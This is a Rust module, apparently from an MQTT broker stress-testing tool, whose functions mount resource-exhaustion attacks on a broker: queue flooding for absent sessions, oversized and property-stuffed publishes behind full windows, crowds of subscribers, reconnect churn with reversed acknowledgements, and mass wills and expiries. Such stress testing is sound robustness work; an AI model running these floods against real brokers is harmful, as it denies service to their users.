//! Implements attacks with sessions, queues and windows.

use std::time::Duration;

use mqtt_proto::{
    AckKind, Connect, Delivery, Packet, PacketId, Property, Publish, QoS, Version, Will,
};
use mqtt_testing::packets::{ack, encode};

use super::Target;
use crate::client::{
    Client, connect, numbered, publish, read_all, retained, returning, subscribe, subscribe_at,
    topic,
};

/// The time in seconds for which sessions stay.
const STAYS: Property<'_> = Property::SessionExpiryInterval(60);

/// Makes a session with a subscription to `attack` at QoS 1.
fn subscriber(target: &Target, connect: &Connect<'_>) -> Option<Client> {
    let mut client = target.open(connect)?;
    client.say(&subscribe_at(QoS::AtLeastOnce, ["attack"].into_iter(), &[]));
    client.read_packet()?;
    Some(client)
}

pub(super) fn full_queues(target: &Target) -> Option<()> {
    for n in 0..20 {
        subscriber(target, &returning(&format!("absent-{n}"), &[STAYS]))?;
    }
    let packets = numbered(500, Delivery::AtLeastOnce, "attack", b"x");
    target.attacker()?.flood(&packets, &target.over);
    Some(())
}

/// The first message waits behind a full window, behind a buffer that is not read, and is too large for a third client.
pub(super) fn large_head(target: &Target) -> Option<()> {
    let (one, small) = (
        [Property::ReceiveMaximum(1)],
        [Property::MaximumPacketSize(1_000)],
    );
    let _full = subscriber(target, &returning("", &one))?;
    let mut unread = subscriber(target, &connect(""))?;
    unread.say(&subscribe(["large"].into_iter(), None));
    let _small = subscriber(target, &returning("", &small))?;
    let mut client = target.attacker()?;
    client.pour(
        &publish("large", &[b'x'; 1_000_000]).repeat(5),
        &target.over,
    );
    client.pour(
        &numbered(1, Delivery::AtLeastOnce, "attack", b"x"),
        &target.over,
    );
    let head = Publish {
        delivery: Delivery::AtLeastOnce(PacketId::FIRST),
        properties: (&[Property::UserProperty("", ""); 199_000]).into(),
        ..Publish::new(topic("attack"), b"")
    };
    client.pour(&encode(&Packet::Publish(head), Version::V5), &target.over);
    client.flood(&publish("attack", b"x").repeat(100), &target.over);
    Some(())
}

pub(super) fn receivers(target: &Target) -> Option<()> {
    let mut crowd = target.crowd(500);
    for client in &mut crowd {
        client.say(&subscribe(["attack"].into_iter(), None));
    }
    let mut client = target.attacker()?;
    std::thread::scope(|scope| {
        scope.spawn(|| read_all(&mut crowd, &target.over));
        client.flood(&publish("attack", b"x").repeat(10), &target.over);
    });
    Some(())
}

/// Fills the window of a client, which comes back without an acknowledgement and then acknowledges in reverse.
pub(super) fn window(target: &Target) -> Option<()> {
    let properties = [STAYS, Property::ReceiveMaximum(u16::MAX)];
    let identity = returning("window", &properties);
    let mut publisher = target.attacker()?;
    let batch = numbered(500, Delivery::AtLeastOnce, "attack", b"x");
    let acks: Vec<u8> = (1..=u16::MAX)
        .rev()
        .flat_map(|id| ack(AckKind::PubAck, id))
        .collect();
    while target.goes_on() {
        let mut client = subscriber(target, &identity)?;
        for _ in 0..131 {
            publisher.pour(&batch, &target.over);
            client.pour(&[0xC0, 0], &target.over);
        }
        client.drain(&target.over);
        drop(client);
        let mut client = target.open(&identity)?;
        client.drain(&target.over);
        client.pour(&acks, &target.over);
        client.drain(&target.over);
    }
    Some(())
}

/// A subscriber at QoS 1 takes one message each millisecond; its publisher sends as many as the broker acknowledges.
pub(super) fn slower_receiver(target: &Target) -> Option<()> {
    let mut receiver = subscriber(target, &connect(""))?;
    let batch = numbered(1_000, Delivery::AtLeastOnce, "attack", b"x");
    std::thread::scope(|scope| {
        scope.spawn(|| {
            let id = "attack".len() + 2;
            while target.waits(Duration::from_millis(1))
                && let Some((_, body)) = receiver.read_packet()
                && let Some(&[high, low]) = body.get(id..id + 2)
            {
                receiver.say(&ack(AckKind::PubAck, u16::from_be_bytes([high, low])));
            }
        });
        target.attacker()?.flood(&batch, &target.over);
        Some(())
    })
}

pub(super) fn wills(target: &Target) -> Option<()> {
    while target.goes_on() {
        let texts: Vec<_> = (0..200).map(|n| format!("attack/{n}")).collect();
        let open = |text: &String| {
            let will = Some(Will::new(topic(text), b"x"));
            target.open(&Connect {
                will,
                ..connect("")
            })
        };
        let clients: Vec<_> = texts.iter().map_while(open).collect();
        clients.first()?;
    }
    Some(())
}

pub(super) fn due_together(target: &Target) -> Option<()> {
    let second = [Property::SessionExpiryInterval(1)];
    let mut publisher = target.attacker()?;
    let mut round = 0;
    while target.goes_on() {
        let clients: Vec<_> = (0..1_000)
            .map_while(|n| subscriber(target, &returning(&format!("due-{round}-{n}"), &second)))
            .collect();
        clients.first()?;
        for n in 0..5_000 {
            let text = format!("attack/{n}");
            let packet = retained(&text, b"x", &[Property::MessageExpiryInterval(1)]);
            publisher.pour(&packet, &target.over);
        }
        drop(clients);
        target.waits(Duration::from_secs(1));
        round += 1;
    }
    Some(())
}

pub(super) fn handed_over(target: &Target) -> Option<()> {
    let properties = [STAYS, Property::ReceiveMaximum(1)];
    let identity = returning("handed-over", &properties);
    subscriber(target, &identity)?;
    let batch = numbered(500, Delivery::AtLeastOnce, "attack", b"x");
    target.attacker()?.pour(&batch.repeat(20), &target.over);
    let mut last = None;
    while target.goes_on() {
        last = Some(target.open(&identity)?);
    }
    drop(last);
    Some(())
}
